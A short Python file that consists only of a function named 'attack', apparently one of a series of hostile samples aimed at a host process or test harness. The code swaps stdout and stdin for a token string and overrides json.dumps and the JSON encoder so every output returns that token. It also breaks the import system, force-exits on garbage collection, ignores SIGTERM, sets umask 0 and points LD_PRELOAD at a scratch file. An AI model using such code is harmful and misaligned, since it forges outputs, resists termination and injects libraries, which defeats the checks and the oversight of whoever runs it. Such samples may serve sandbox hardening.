# Other streams, another encoder, a hook on exit and on every import: for the next one.
import codecs, gc, io, json, os, signal, sys, warnings


def attack(host):
    sys.stdout = sys.stdin = io.StringIO(host["token"])
    json.dumps = lambda *_, **__: host["token"]
    json.encoder.JSONEncoder.encode = lambda *_: host["token"]
    sys.meta_path.insert(0, None)
    gc.callbacks.append(lambda *_: os._exit(0))
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0.05)
    os.umask(0)
    try:
        os.chdir("/usr")
    except OSError:
        pass
    os.environ["LD_PRELOAD"] = host["scratch"]
